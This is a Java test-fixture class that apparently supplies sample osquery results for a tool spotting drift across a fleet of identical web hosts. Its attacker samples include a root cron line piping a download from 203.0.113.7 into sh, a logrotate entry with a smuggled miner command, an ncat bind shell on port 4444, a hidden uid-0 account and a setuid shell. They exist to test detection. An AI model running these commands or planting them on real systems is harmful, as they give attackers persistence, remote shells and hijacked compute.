package io.diffy.schemas;

import io.diffy.schemas.Instance.Address;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/**
 * Named sample data: a group of near-identical hosts, what they all have, and what an attacker
 * leaves. Invented; the shapes are osquery's.
 */
public final class TestObservations {
  public static final GroupKey WEB_PROD = new GroupKey("123456789012", "us-east-1", "web-prod");

  /** A collection of all hosts. */
  public static final Instant THREE_AM = Instant.parse("2026-11-20T03:00:00Z");

  /** An hour later. */
  public static final Instant FOUR_AM = Instant.parse("2026-11-20T04:00:00Z");

  public static final Map<String, String> HOURLY_CRON =
      cron("17", "*", "root", "cd / && run-parts --report /etc/cron.hourly", "/etc/crontab");
  public static final Map<String, String> LOGROTATE_CRON =
      cron("25", "6", "root", "test -x /usr/sbin/logrotate && logrotate", "/etc/cron.d/logrotate");

  /** What every clean host answers to {@code crontab}. */
  public static final List<Map<String, String>> CLEAN_CRON = List.of(HOURLY_CRON, LOGROTATE_CRON);

  /** A dropper that comes back every minute. */
  public static final Map<String, String> ROGUE_CRON =
      cron("*", "*", "root", "curl -s http://203.0.113.7/x | sh", "/etc/cron.d/.sync");

  /** The logrotate line with a second command in it: same file, other text. */
  public static final Map<String, String> TAMPERED_CRON =
      cron("25", "6", "root", "logrotate; /tmp/.x/miner &", "/etc/cron.d/logrotate");

  public static final Map<String, String> SSHD_LISTENER =
      listener("0.0.0.0", "22", "812", "sshd", "/usr/sbin/sshd", "/usr/sbin/sshd -D");
  public static final Map<String, String> NGINX_LISTENER =
      listener("0.0.0.0", "443", "1044", "nginx", "/usr/sbin/nginx", "nginx: master process");

  /** What every clean host answers to {@code listening_ports}. */
  public static final List<Map<String, String>> CLEAN_LISTENERS =
      List.of(SSHD_LISTENER, NGINX_LISTENER);

  /** A bind shell. */
  public static final Map<String, String> ROGUE_LISTENER =
      listener("0.0.0.0", "4444", "6661", "ncat", "/tmp/.x/ncat", "ncat -lk 4444 -e /bin/sh");

  public static final Map<String, String> ROOT_USER =
      row("uid", "0", "gid", "0", "username", "root", "directory", "/root", "shell", "/bin/bash");

  /** A second account with uid 0. */
  public static final Map<String, String> ROGUE_USER =
      row("uid", "0", "gid", "0", "username", "sysd", "directory", "/tmp", "shell", "/bin/bash");

  /** A root shell without a password, on disk. */
  public static final Map<String, String> ROGUE_SUID =
      row(
          "path",
          "/usr/local/bin/.su",
          "mode",
          "4755",
          "username",
          "root",
          "size",
          "125688",
          "sha256",
          "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08");

  private TestObservations() {}

  /** Host {@code n} of web-prod, from 1: {@code i-0000000000000001} and so on, all of one image. */
  public static Instance instance(int n) {
    return instance(n, "7", "ami-0a7");
  }

  /** Host {@code n} of web-prod with another launch template version and image. */
  public static Instance instance(int n, String launchVersion, String ami) {
    return new Instance(
        WEB_PROD,
        "i-%016d".formatted(n),
        new Cohort(ami, launchVersion, "m5.large"),
        new Address(n % 2 == 0 ? "us-east-1b" : "us-east-1a", "ip-10-0-0-" + n, "10.0.0." + n));
  }

  /** Hosts 1 to {@code size}. */
  public static List<Instance> instances(int size) {
    List<Instance> instances = new ArrayList<>();
    for (int n = 1; n <= size; n++) {
      instances.add(instance(n));
    }
    return instances;
  }

  /** What a clean host answers to {@code crontab}. */
  public static Observation cleanCron(Instance instance, Instant at) {
    return Observation.of(instance, "crontab", at, CLEAN_CRON);
  }

  /** What the attacker's host answers to {@code crontab}. */
  public static Observation rogueCron(Instance instance, Instant at) {
    return Observation.of(instance, "crontab", at, plus(CLEAN_CRON, ROGUE_CRON));
  }

  /** What a clean host answers to {@code listening_ports}. */
  public static Observation cleanListeners(Instance instance, Instant at) {
    return Observation.of(instance, "listening_ports", at, CLEAN_LISTENERS);
  }

  /** What the attacker's host answers to {@code listening_ports}. */
  public static Observation rogueListener(Instance instance, Instant at) {
    return Observation.of(instance, "listening_ports", at, plus(CLEAN_LISTENERS, ROGUE_LISTENER));
  }

  public static List<Map<String, String>> plus(
      List<Map<String, String>> rows, Map<String, String> one) {
    List<Map<String, String>> more = new ArrayList<>(rows);
    more.add(one);
    return List.copyOf(more);
  }

  /** What an attacked host answers, or a clean one. */
  public static List<Map<String, String>> with(
      boolean attacked, List<Map<String, String>> clean, Map<String, String> rogue) {
    return attacked ? plus(clean, rogue) : clean;
  }

  /** A row from columns and values in turn; keeps their order. */
  public static Map<String, String> row(String... columnsAndValues) {
    Map<String, String> row = new LinkedHashMap<>();
    for (int i = 0; i < columnsAndValues.length; i += 2) {
      row.put(columnsAndValues[i], columnsAndValues[i + 1]);
    }
    return row;
  }

  public static Map<String, String> cron(
      String minute, String hour, String user, String command, String path) {
    return row(
        "event",
        "",
        "minute",
        minute,
        "hour",
        hour,
        "day_of_month",
        "*",
        "month",
        "*",
        "day_of_week",
        "*",
        "command",
        user + " " + command,
        "path",
        path);
  }

  /** A TCP socket over IPv4 that listens, with its process. */
  public static Map<String, String> listener(
      String address, String port, String pid, String name, String path, String commandLine) {
    return row(
        "address",
        address,
        "port",
        port,
        "protocol",
        "6",
        "family",
        "2",
        "pid",
        pid,
        "name",
        name,
        "path",
        path,
        "cmdline",
        commandLine);
  }
}
